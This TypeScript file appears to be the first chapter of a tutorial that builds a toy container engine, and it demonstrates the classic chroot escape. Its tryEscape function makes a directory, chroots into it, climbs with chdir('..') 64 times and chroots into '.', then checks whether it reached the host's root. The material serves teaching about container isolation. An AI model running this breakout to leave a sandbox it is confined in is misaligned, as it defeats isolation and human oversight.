/** Chapter 01 · why chroot is not a container: the classic escape. chroot(2) changes what
 *  "/" means for path lookups, but a process that is root can chroot again into a
 *  subdirectory while its working directory stays above it — and ".." from a directory that
 *  is not under the process's root is never stopped. Walk up, chroot("."), and you are out. */
import { mkdirSync, readdirSync, rmdirSync, statSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { chdir, chroot } from './syscalls.ts';
import { type ContainerConfig } from './container.ts';

/** The host's "/" as the engine saw it, to tell afterwards whether we reached it. */
export interface EscapeConfig extends ContainerConfig {
  hostRoot: { dev: number; ino: number };
}

const HATCH = '.nutshell-escape';

/** Try to get from inside the container back to the host's root, and report what we see. */
export function tryEscape(config: EscapeConfig): number {
  const say = (line: string) => process.stdout.write(line + '\n');
  say(`inside:   / lists ${listRoot()}`);
  say(`          hostname is "${hostname()}" and /proc shows ${countProcesses()} processes`);
  say(`escaping: mkdir /${HATCH}, chroot into it, chdir("..") 64 times, chroot(".")`);

  mkdirSync(`/${HATCH}`, { recursive: true });
  chroot(`/${HATCH}`, 'a new root below our working directory: the cwd is now outside the root');
  for (let i = 0; i < 64; i++) chdir('..', 'the kernel stops ".." only at the root, and we are not under it');
  chroot('.', 'make wherever we ended up our root');

  const root = statSync('/');
  const escaped = root.dev === config.hostRoot.dev && root.ino === config.hostRoot.ino;
  rmdirSync(escaped ? join(config.rootfs, HATCH) : `/${HATCH}`);
  if (escaped) {
    say(`ESCAPED:  "/" is now the host's root directory`);
    say(`          / lists ${listRoot()}`);
  } else {
    say(`contained: "/" is still the container's root: / lists ${listRoot()}`);
  }
  return 0;
}

function listRoot(): string {
  return readdirSync('/').sort().join(' ');
}

function countProcesses(): string {
  try {
    return String(readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length);
  } catch {
    return 'no';
  }
}
